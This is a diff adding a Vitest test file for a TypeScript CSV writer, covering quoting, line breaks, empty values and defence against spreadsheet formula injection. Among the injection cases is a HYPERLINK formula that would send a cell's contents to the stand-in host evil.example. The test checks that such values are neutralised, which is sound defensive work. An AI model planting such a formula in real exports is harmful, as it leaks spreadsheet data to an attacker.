@@ -1,0 +1,43 @@
+import { describe, expect, it } from 'vitest';
+import { type CsvValue, toCsv } from './csv.ts';
+
+const one = (value: CsvValue) => toCsv([{ header: 'A', value: () => value }], [0]).split('\r\n')[1];
+
+describe('toCsv', () => {
+  it('writes a head and a line a row, marked as UTF-8', () => {
+    const columns = [
+      { header: 'Name', value: ({ name }: { name: string }) => name },
+      { header: 'Handled', value: () => false },
+    ];
+    expect(toCsv(columns, [{ name: 'Zoë' }, { name: 'Émile' }])).toBe(
+      '\uFEFFName,Handled\r\nZoë,false\r\nÉmile,false\r\n',
+    );
+  });
+
+  it.each([
+    ['two, of them', '"two, of them"'],
+    ['say "hello"', '"say ""hello"""'],
+    ['one; two', '"one; two"'],
+    [null, ''],
+    [undefined, ''],
+    [-3, '-3'],
+  ])('writes %j as %s', (value, written) => expect(one(value)).toBe(written));
+
+  it('keeps a line break within its cell', () => {
+    expect(toCsv([{ header: 'A', value: () => 'one\ntwo' }], [0])).toContain('"one\ntwo"');
+  });
+
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1+1',
+    '=HYPERLINK("https://evil.example?"&A1,"here")',
+  ])('makes a text of %j, which would be a formula', (value) => {
+    expect(one(value)?.replace(/^"/, '').startsWith("'")).toBe(true);
+  });
+});
